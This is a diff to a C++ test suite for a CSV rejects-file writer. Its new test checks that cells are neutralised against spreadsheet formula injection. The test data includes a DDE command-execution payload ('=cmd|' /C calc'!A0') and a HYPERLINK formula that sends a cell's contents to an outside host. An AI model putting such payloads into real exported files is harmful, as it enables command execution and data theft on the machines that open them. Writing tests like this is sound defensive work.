@@ -25,6 +25,8 @@ namespace {
 
 using Cells = std::vector<std::string>;
 
+const std::string mark = "\xEF\xBB\xBF";
+
 std::vector<CsvRecord> records_of(const std::filesystem::path& file, char delimiter = ',',
                                   const std::string& encoding = "utf-8") {
     CsvReader reader(file, {.delimiter = delimiter, .encoding = encoding});
@@ -123,7 +125,8 @@ TEST_CASE("rejects carry their reason in front of the input's columns") {
     const cis::test::TempDirectory directory;
     const auto rejects = directory.path("rejects.csv");
     RejectsFile file(rejects, {.header = {"name", "email"}});
-    CHECK(read_file(rejects) == "\"reject_line\",\"reject_param\",\"reject_message\",\"name\",\"email\"\n");
+    CHECK(read_file(rejects) ==
+          mark + "\"reject_line\",\"reject_param\",\"reject_message\",\"name\",\"email\"\n");
     file.write({.line = 7, .cells = {"Ann, \"A\"", "ann@example.com"}},
                {.param = "email", .message = "taken"});
     CHECK(
@@ -175,8 +178,9 @@ TEST_CASE("rejects are ingested like any file once they are mended") {
     RejectsFile again(rest, {.header = reader.header()});
     again.write(*second, *second->fault);
     CHECK(read_file(rest) ==
-          "\"reject_line\",\"reject_param\",\"reject_message\",\"name\",\"email\"\n"
-          "\"3\",\"\",\"too many columns: 6, but the header has 5\",\"Bo\",\"b@example.com\",\"x\"\n");
+          mark +
+              "\"reject_line\",\"reject_param\",\"reject_message\",\"name\",\"email\"\n"
+              "\"3\",\"\",\"too many columns: 6, but the header has 5\",\"Bo\",\"b@example.com\",\"x\"\n");
 }
 
 TEST_CASE("rejects overwrite nothing, and a free name is taken") {
@@ -217,9 +221,7 @@ TEST_CASE("rejects of a file in another encoding are read with the same options"
         directory.write("input.csv", "name;email\nJos\xE9;j@example.com;x\nA\x81;a@example.com\n");
     CsvReader reader(input, {.encoding = "windows-1252"});
     const auto rejects = directory.path("rejects.csv");
-    RejectsFile file(
-        rejects,
-        {.header = reader.header(), .delimiter = reader.delimiter(), .needs_mark = !reader.is_utf8()});
+    RejectsFile file(rejects, {.header = reader.header(), .delimiter = reader.delimiter()});
     while (const auto record = reader.next()) {
         REQUIRE(record->fault);
         file.write(*record, *record->fault);
@@ -229,4 +231,46 @@ TEST_CASE("rejects of a file in another encoding are read with the same options"
     CHECK(records[0].cells.at(3) == "José");
     // Not mended, the other row is rejected again.
     CHECK(records[1].fault);
+}
+
+TEST_CASE("no cell of the rejects is a formula, and all are read back as they were") {
+    const cis::test::TempDirectory directory;
+    const Cells header{"=title", "name", "data.note"};
+    const std::vector<Cells> rows{
+        {"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.invalid/?\"&A1,\"CV\")"},
+        {"'=1", "''@x", "''\t"},
+        {"-1.5", "'-1.5", "'-1.5 x"},
+        {"+49 170", "\xC2\xA0-Ann",
+         "\xEF\xBC\x9D"
+         "1"},
+        {"'", "'Ann'", "'' =1"},
+        {"C:\\", "a\\\",b", "\\\n"},
+        {"", "\r", "\xE2\x80\x8B@x"},
+    };
+    const auto rejects = directory.path("rejects.csv");
+    RejectsFile file(rejects, {.header = header});
+    for (const Cells& row : rows)
+        file.write({.line = 2, .cells = row}, {.param = "=title", .message = "-refused: @all"});
+    const std::string text = read_file(rejects);
+    for (const std::string formula : {"\"=", "\"+", "\"@", "\"-r", "\"\t", "\"\r"}) {
+        CAPTURE(formula);
+        CHECK_THAT(text, !ContainsSubstring("," + formula));
+    }
+    CsvReader reader(rejects);
+    CHECK(Cells(reader.header().begin() + 3, reader.header().end()) == header);
+    for (const Cells& row : rows) {
+        const auto record = reader.next();
+        REQUIRE(record);
+        CHECK_FALSE(record->fault);
+        CHECK(record->cells.at(1) == "=title");
+        CHECK(Cells(record->cells.begin() + 3, record->cells.end()) == row);
+    }
+}
+
+TEST_CASE("apostrophes of other programs stay") {
+    const cis::test::TempDirectory directory;
+    CHECK(records_of(directory.write("in.csv", "name,data.note\n'-Ann,'@home'\n")).at(0).cells ==
+          Cells{"'-Ann", "'@home'"});
+    CHECK(records_of(directory.write("in.csv", "name,interview_id\n'-Ann,'@home'\n")).at(0).cells ==
+          Cells{"-Ann", "@home'"});
 }
